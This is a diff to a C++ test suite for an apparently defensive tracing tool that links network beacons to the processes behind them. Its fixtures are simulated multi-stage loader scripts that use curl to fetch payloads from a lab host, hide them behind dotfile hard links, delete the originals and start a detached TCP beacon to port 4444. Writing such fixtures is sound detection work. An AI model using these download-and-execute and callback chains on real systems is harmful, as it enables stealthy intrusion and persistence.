@@ -9,14 +9,31 @@ using testing::HasSubstr;
 
 namespace {
 
-constexpr const char* kFirstStage = "#!/bin/bash\n# METSUKE-SIM\n[ -n \"$METSUKE_SIM_ROOT\" ] || exit 1\ncd \"$METSUKE_SIM_ROOT\" || exit 1\n"
-                                    "curl -s -o home/pack.tar http://10.78.0.2:8081/pack.tar\nmkdir work\n"
-                                    "tar -xf home/pack.tar -C work\nmv work/second.sh work/b\nmv work/b work/c\nln work/c home/.second\n"
-                                    "rm work/c\nexec home/.second\n";
-constexpr const char* kSecondStage = "#!/bin/bash\n# METSUKE-SIM\n[ -n \"$METSUKE_SIM_ROOT\" ] || exit 1\ncd \"$METSUKE_SIM_ROOT\" || exit 1\n"
-                                     "curl -s -o home/t.part http://10.78.0.2:8080/third\nmv home/t.part home/t\nchmod +x home/t\n"
-                                     "ln home/t home/.svc\nrm home/t\n"
-                                     "setsid home/.svc tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &\nexit 0\n";
+constexpr const char* kFirstStage = R"sh(#!/bin/bash
+# METSUKE-SIM
+[ -n "$METSUKE_SIM_ROOT" ] || exit 1
+cd "$METSUKE_SIM_ROOT" || exit 1
+curl -s -o home/pack.tar http://10.78.0.2:8081/pack.tar
+mkdir work
+tar -xf home/pack.tar -C work
+mv work/second.sh work/b
+mv work/b work/c
+ln work/c home/.second
+rm work/c
+exec home/.second
+)sh";
+constexpr const char* kSecondStage = R"sh(#!/bin/bash
+# METSUKE-SIM
+[ -n "$METSUKE_SIM_ROOT" ] || exit 1
+cd "$METSUKE_SIM_ROOT" || exit 1
+curl -s -o home/t.part http://10.78.0.2:8080/third
+mv home/t.part home/t
+chmod +x home/t
+ln home/t home/.svc
+rm home/t
+setsid home/.svc tcp 10.78.0.2 4444 500 >/dev/null 2>&1 </dev/null &
+exit 0
+)sh";
 
 constexpr const char* kRun = " >/dev/null 2>&1 </dev/null &";
 
@@ -50,7 +67,9 @@ TEST_P(TraceScenario, ProgramInMemoryOfAFetchedLoader_isTracedToItsPeer) {
     if (isEbpf() || trace.entry() == "download") {
         expectEntry(trace, "download", "10.78.0.2:8080", {});
     } else {
-        EXPECT_EQ(trace.entry(), "fileless") << "the loader ran for less than a millisecond: the end of what is known\n" << trace;
+        EXPECT_EQ(trace.entry(), "fileless")
+            << "the loader ran for less than a millisecond: the end of what is known\n"
+            << trace;
     }
 }
 
@@ -59,7 +78,9 @@ TEST_P(TraceScenario, ProgramThatDeletedItself_isStillKnown) {
     far->serveFiles(kWebPort, {{"/gone", {simulant()}}}, onceSeen());
     far->takeStreams(kBeaconPort);
     record();
-    happen(std::string("curl -s -o home/gone http://10.78.0.2:8080/gone\nchmod +x home/gone\nsetsid home/gone --forget tcp 10.78.0.2 4444 500") + kRun);
+    happen(std::string("curl -s -o home/gone http://10.78.0.2:8080/gone\nchmod +x home/gone\nsetsid "
+                       "home/gone --forget tcp 10.78.0.2 4444 500")
+        + kRun);
     const TraceView trace = traceOf(beacon());
     EXPECT_FALSE(std::filesystem::exists(path("home/gone")));
     EXPECT_EQ(trace.label("subject"), path("home/gone")) << trace;
@@ -107,7 +128,8 @@ TEST_P(TraceScenario, BeaconByDatagramsWithoutAConnection_hasAnOwnerOrSaysThatIt
     happen(std::string("setsid home/tool unconnected 10.78.0.2 4444 200") + kRun);
     const Question question = beacon(kBeaconPort, "udp");
     // What is looked at once a second has been by then.
-    ASSERT_TRUE(eventually([&] { return far->visits(kBeaconPort).front().last - question.at > 3 * kSecond; }));
+    ASSERT_TRUE(
+        eventually([&] { return far->visits(kBeaconPort).front().last - question.at > 3 * kSecond; }));
     endRecording();
     const TraceView trace = ask(question);
     if (trace.label("owner").empty() || trace.gaps().contains("owner_by_peer")) {
